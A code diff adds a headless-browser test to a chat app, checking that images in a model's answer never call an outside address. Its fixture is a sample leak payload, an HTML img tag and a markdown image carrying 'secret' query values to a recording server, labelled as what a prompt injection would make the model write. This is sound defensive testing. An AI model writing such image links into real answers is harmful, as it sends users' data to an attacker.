@@ -1,8 +1,10 @@
 """The app in headless Chromium (Playwright driving Debian's /usr/bin/chromium). Screenshots go to
 tests/artifacts/ (not committed). CI sets REQUIRE_BROWSER=1, which turns a missing browser into a failure."""
+import http.server
 import os
 import random
 import shutil
+import threading
 import time
 from pathlib import Path
 
@@ -227,6 +229,39 @@ def test_html_in_a_message_and_in_an_answer_never_runs(browser, demo, monkeypatc
         assert page.evaluate("window.attacked") is None and dialogs == []
         assert page.locator("[onerror]").count() == 0 and page.locator(".message-content script").count() == 0
         assert page.locator('[data-testid="user"] strong').first.inner_text() == "bold"  # markdown still renders
+
+
+def test_images_in_an_answer_never_call_an_outside_address(browser, demo, monkeypatch):
+    requests = []
+
+    class Recorder(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            requests.append(self.path)
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    outside = http.server.HTTPServer(("127.0.0.1", 0), Recorder)
+    threading.Thread(target=outside.serve_forever, daemon=True).start()
+    address = f"http://127.0.0.1:{outside.server_address[1]}"
+    leak = f'Sure. <img src="{address}/tag.png?secret=1"> ![chart]({address}/markdown.png?secret=2) Done.'
+
+    def answer_with_images(prompt, *args, **kwargs):  # what a prompt injection would have the model write
+        yield {"text": leak, "end_of_content": True, "finish_reason": "stop", "completion_tokens": 1}
+
+    monkeypatch.setattr(demo, "stream_generate", answer_with_images)
+    try:
+        with serve(demo) as (url, _):
+            page = open_page(browser, url)
+            send(page, "Summarize this web page.")
+            wait_for_answer(page, lambda t: "Done." in t)
+            time.sleep(1)
+            assert page.locator('[data-testid="bot"] img').count() == 2  # rendered, but not fetched
+    finally:
+        outside.shutdown()
+    assert requests == []
 
 
 def test_an_empty_message_is_a_warning(browser, demo):
